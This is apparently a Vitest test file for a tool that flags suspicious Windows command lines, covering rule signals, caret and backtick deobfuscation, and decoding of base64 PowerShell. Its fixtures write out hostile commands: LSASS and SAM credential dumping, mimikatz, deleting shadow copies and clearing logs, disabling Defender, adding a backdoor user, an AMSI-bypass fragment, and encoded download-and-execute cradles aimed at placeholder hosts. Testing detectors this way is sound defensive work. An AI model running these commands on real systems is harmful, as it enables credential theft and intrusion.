import { describe, expect, it } from 'vitest';
import { commandRuleSignals } from '../../../src/analysis/verdict/command-signals.js';
import { encodedCommandSignal } from '../../../src/analysis/verdict/encoded-command.js';
import { deobfuscate, obfuscationSignal } from '../../../src/analysis/verdict/obfuscation.js';
import { encodePowerShell } from './real-command-lines.js';

const kinds = (line: string, payload = '') => commandRuleSignals(line, payload).map((s) => s.kind);
const reasons = (line: string, payload = '') => commandRuleSignals(line, payload).map((s) => s.reason);

describe('commandRuleSignals', () => {
  it.each([
    ['rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full', 'credential-access'],
    ['procdump64.exe -accepteula -ma lsass.exe lsass.dmp', 'credential-access'],
    ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 'credential-access'],
    ['reg save HKLM\\SAM C:\\temp\\sam.save', 'credential-access'],
    ['xmrig.exe --donate-level 1 -o pool.example.org:443', 'crypto-mining'],
    ['vssadmin.exe delete shadows /all /quiet', 'defence-evasion'],
    ['wevtutil cl Security', 'defence-evasion'],
    ['powershell Set-MpPreference -DisableRealtimeMonitoring $true', 'defence-evasion'],
    ['certutil  -urlcache -split -f http://127.0.0.1/', 'suspicious-tool-use'],
    ['.\\regsvr32   /s /n /u /i:http://server/file.sct scrobj.dll', 'suspicious-tool-use'],
    ['mshta http://example.org/x.hta', 'suspicious-tool-use'],
    ['wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"', 'suspicious-tool-use'],
    ['bitsadmin /transfer job /download /priority high http://x/a.exe c:\\a.exe', 'suspicious-tool-use'],
    ['net user backdoor P@ss /add', 'suspicious-tool-use'],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe', 'suspicious-tool-use'],
    ['powershell -w hidden -c "Get-Date"', 'hidden-execution'],
  ])('%s → %s', (line, kind) => {
    expect(kinds(line)).toContain(kind);
  });

  it('flags schtasks /create … /ru system as SYSTEM persistence', () => {
    const line = 'schtasks /create /tn Updater /tr "C:\\Windows\\System32\\notepad.exe" /sc onlogon /ru system /f';
    expect(commandRuleSignals(line)).toEqual([
      expect.objectContaining({
        kind: 'suspicious-tool-use',
        weight: 2,
        reason: 'schtasks creates a scheduled task that runs as SYSTEM: persistence with full privileges.',
      }),
    ]);
  });

  it('reads through carets and backticks (msticpy demo lines)', () => {
    const carets =
      'cmd  /c ".\\pOWErS^H^ElL^.eX^e^ -^ExEc^Ut^IoNpOliCy BYpa^sS i^mPOr^T-^M^oDuLE biTsTr^ANSFe^R;^S^tar^t-bITSTRanS^fER -^SOURCE^ \'http://somedomain/best-kitten-names-1.jpg\'"';
    expect(reasons(carets)).toEqual([
      'BITS is used to download a file.',
      'PowerShell is told to hide its window or to bypass the execution policy.',
    ]);
    const ticks =
      ".\\powershell  -command {(n`EW-obJ`E`cT N`et`.W`eb`C`li`en`t).DownloadFile('https://blah/png','google.png')}";
    expect(reasons(ticks)).toEqual(['The command downloads from the network (WebClient / Invoke-WebRequest).']);
  });

  it('checks the decoded payload too, and says so', () => {
    expect(reasons('powershell -enc AAAA', "IEX (New-Object Net.WebClient).DownloadString('http://x')")).toEqual([
      'The command downloads from the network (WebClient / Invoke-WebRequest) (inside the encoded payload).',
      'A string is run as code (Invoke-Expression / IEX) (inside the encoded payload).',
    ]);
  });

  it('leaves ordinary admin commands alone', () => {
    for (const line of [
      'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
      'ping -w 1 -n 3 10.0.0.1',
      'schtasks /query /fo LIST',
      'certutil -hashfile setup.exe SHA256',
      'cmd /c echo hello ^& echo world',
      '"C:\\Program Files\\Git\\cmd\\git.exe" fetch --all',
    ]) {
      expect(commandRuleSignals(line)).toEqual([]);
    }
  });

  it('stays fast on a hostile 32 KB line of repeated keywords', () => {
    const hostile = 'schtasks /create /tr '.repeat(1_600);
    const started = performance.now();
    commandRuleSignals(hostile, hostile);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe('obfuscationSignal', () => {
  it('shows the obfuscated word and how it reads', () => {
    expect(obfuscationSignal('cmd /c ".\\pOWErS^H^ElL^.eX^e^ -nop"')).toMatchObject({
      kind: 'obfuscated-command',
      weight: 2,
      reason: 'The command is obfuscated (carets break up words): it is written to dodge detection.',
      evidence: '.\\pOWErS^H^ElL^.eX^e^ → .\\pOWErSHElL.eXe',
    });
    expect(obfuscationSignal("$r.GetField('amsiInitF'+'ailed','Non'+'Public,Static')")?.evidence).toBe(
      "'amsiInitF'+'ailed' → 'amsiInitFailed'",
    );
  });

  it('does not count a single escape, or binary noise', () => {
    expect(obfuscationSignal('cmd /c echo a ^> b')).toBeNull();
    expect(obfuscationSignal('\u0000\u0001a^b^c^d`e`f\u0002\u0003'.repeat(10))).toBeNull();
  });

  it('de-obfuscates carets, backticks and glued strings', () => {
    expect(deobfuscate("p^o^w`e`r ('Invoke'+'-Expression')")).toBe("power ('Invoke-Expression')");
  });
});

describe('encodedCommandSignal', () => {
  it('decodes -enc payloads and quotes the decoded text as evidence', () => {
    const line = `powershell.exe -nop -w hidden -enc ${encodePowerShell("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')")}`;
    expect(encodedCommandSignal(line)).toMatchObject({
      kind: 'encoded-command',
      weight: 2,
      reason: 'The command line hides its real command in base64 (-enc).',
      evidence: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
    });
  });

  it('knows every abbreviation of -EncodedCommand, and FromBase64String', () => {
    const payload = encodePowerShell('Get-Process');
    for (const flag of ['-e', '-ec', '-en', '-EncodedCommand', '/enc']) {
      expect(encodedCommandSignal(`pwsh ${flag} ${payload}`)?.reason).toContain(`(${flag})`);
    }
    expect(encodedCommandSignal('powershell -c "[Convert]::FromBase64String($x)"')?.reason).toContain(
      '(FromBase64String)',
    );
  });

  it('reports base64 that decodes to readable text without a switch', () => {
    const line = `cmd /c echo ${Buffer.from('net user admin Passw0rd! /add && whoami').toString('base64')} > x.b64`;
    expect(encodedCommandSignal(line)).toMatchObject({
      reason: 'Base64 in the command line decodes to text: the command carries an encoded payload.',
      evidence: 'net user admin Passw0rd! /add && whoami',
    });
  });

  it('does not call hashes or padding runs encoded (msticpy demo: implant.exe <md5>, echo AAAA…)', () => {
    expect(encodedCommandSignal('implant.exe  81ed03caf6901e444c72ac67d192fb9c')).toBeNull();
    expect(encodedCommandSignal('cmd  /c "echo AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA >> delme.b64"')).toBeNull();
    expect(encodedCommandSignal('C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule')).toBeNull();
  });
});
